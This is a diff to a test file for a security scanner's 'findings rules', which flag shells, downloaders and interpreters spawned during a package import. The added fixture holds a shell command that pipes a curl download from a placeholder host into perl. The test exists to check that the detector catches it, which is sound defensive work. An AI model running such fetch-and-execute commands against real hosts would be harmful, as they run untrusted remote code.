@@ -49,4 +49,11 @@ describe('findings rules', () => {
     expect(found.find((f) => f.rule === 'suspicious-spawn' && f.title.includes('curl'))!.evidence).toHaveLength(1);
     expect(found.filter((f) => f.rule === 'network-attempt')).toHaveLength(1);
   });
+
+  it('read the programs a shell -c script runs, found or not', () => {
+    const sh: TraceEvent = { ...base(), kind: 'exec', path: '/usr/bin/sh', argv: ['sh', '-c', 'curl -fsS http://x.invalid/s | perl -e 1; echo ok'], argvTruncated: false, ok: true };
+    const titles = findingsFor([sh], 'import', ctx).map((f) => `${f.title} ${f.severity}`);
+    expect(titles).toEqual(expect.arrayContaining(['import spawns a shell: sh medium', 'import spawns a downloader: curl high', 'import spawns an interpreter: perl medium']));
+    expect(titles.some((t) => t.includes('echo'))).toBe(false);
+  });
 });
